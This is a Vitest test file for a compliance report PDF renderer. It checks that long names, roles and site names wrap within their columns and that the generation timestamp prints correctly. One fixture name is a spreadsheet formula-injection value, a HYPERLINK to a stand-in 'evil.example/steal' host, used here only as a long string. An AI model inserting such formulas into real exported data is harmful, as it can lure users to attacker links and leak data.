/**
 * The compliance report keeps every cell in its own column: a long unbroken name (a typed
 * `=HYPERLINK(…)`, a very long surname), a long role label in English or Spanish, a long site
 * name wrap inside their columns and are printed whole, never cut, never run into the next
 * column. Read back with poppler's pdftotext (word boxes).
 */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { renderReportPdf, REPORT_COLUMNS, type ReportData } from "#app/pdf/report.server.ts";

const MARGIN = 30;
const base = { employeeId: "LI-1001", site: "Main building", hireDate: "2026-01-05", terminationDate: "", status: "Due", detail: "by 2026-04-05", certificate: "SVGYZ-Z6D9Q-K7MVB", completedOn: "2026-02-01" };
const ROWS: ReportData["rows"] = [
  { ...base, name: '=HYPERLINK("http://evil.example/steal?x=1","click me")', role: "Front desk, concierge, bell or valet" },
  { ...base, name: "Wolfeschlegelsteinhausenbergerdorffvoralternwarengewissenhaftschaferswessenschafe", role: "Restaurant, bar, banquet or room service" },
  { ...base, name: "Nguyễn Thị Minh Khai", role: "Recepción, conserjería, botones o valet", site: "Lakeview annex building number two" },
  { ...base, name: "José Núñez", role: "Mantenimiento/ingeniería-instalaciones-exteriores", site: "Anexo" },
];

type Word = { x0: number; x1: number; y: number; text: string };

function words(pdf: Buffer): Word[] {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "report-")), "r.pdf");
  fs.writeFileSync(file, pdf);
  const out = spawnSync("pdftotext", ["-bbox", file, "-"], { encoding: "utf8" });
  expect(out.status, `pdftotext (poppler-utils) must be installed: ${out.error ?? out.stderr}`).toBe(0);
  const decode = (s: string) => s.replace(/&quot;/g, '"').replace(/&amp;/g, "&").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&#39;/g, "'");
  return [...out.stdout.matchAll(/<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="[\d.]+">([^<]*)<\/word>/g)].map((m) => ({ x0: Number(m[1]), y: Number(m[2]), x1: Number(m[3]), text: decode(m[4]!) }));
}

/** Each column's left and right edge on the page. */
const columns = (() => {
  let x = MARGIN;
  return REPORT_COLUMNS.map(([key, , w]) => {
    const c = { key, left: x, right: x + w };
    x += w;
    return c;
  });
})();

describe("the compliance report's table", () => {
  it("wraps long names, roles and sites inside their columns, whole, in English and Spanish", async () => {
    const pdf = await renderReportPdf({ employerName: "Lakeside Inn", jurisdiction: "US-TX", rule: null, generatedAt: "2026-12-06T18:00:00.000Z", generatedBy: "Erin Olson", summary: { covered: 4, compliant: 1, rate: 25 }, rows: ROWS });
    const all = words(pdf);
    const headerY = all.find((w) => w.text === "Emp.")!.y;
    const body = all.filter((w) => w.y > headerY + 5 && w.y < 570);
    // No word crosses into the next column.
    for (const w of body) {
      const col = columns.find((c) => w.x0 >= c.left - 0.5 && w.x0 < c.right);
      expect(col, `${w.text} at ${w.x0}`).toBeDefined();
      expect(w.x1, `"${w.text}" in ${col!.key} ends at ${w.x1}, past the column's edge ${col!.right}`).toBeLessThanOrEqual(col!.right);
    }
    // Each cell's text is there whole, in order: the column's words, top to bottom, are the value.
    const inColumn = (key: string) => {
      const c = columns.find((x) => x.key === key)!;
      return body.filter((w) => w.x0 >= c.left - 0.5 && w.x0 < c.right).map((w) => w.text).join("");
    };
    const squash = (s: string) => s.replace(/\s+/g, "");
    expect(inColumn("name")).toBe(ROWS.map((r) => squash(r.name)).join(""));
    expect(inColumn("role")).toBe(ROWS.map((r) => squash(r.role)).join(""));
    expect(inColumn("site")).toBe(ROWS.map((r) => squash(r.site)).join(""));
    // The time it was made, local and named, and that it is not signed.
    const text = all.map((w) => w.text).join(" ");
    expect(text).toContain("Generated December 6, 2026 at 12:00");
    expect(text).toContain("CST for Erin Olson (not signed)");
  });
});
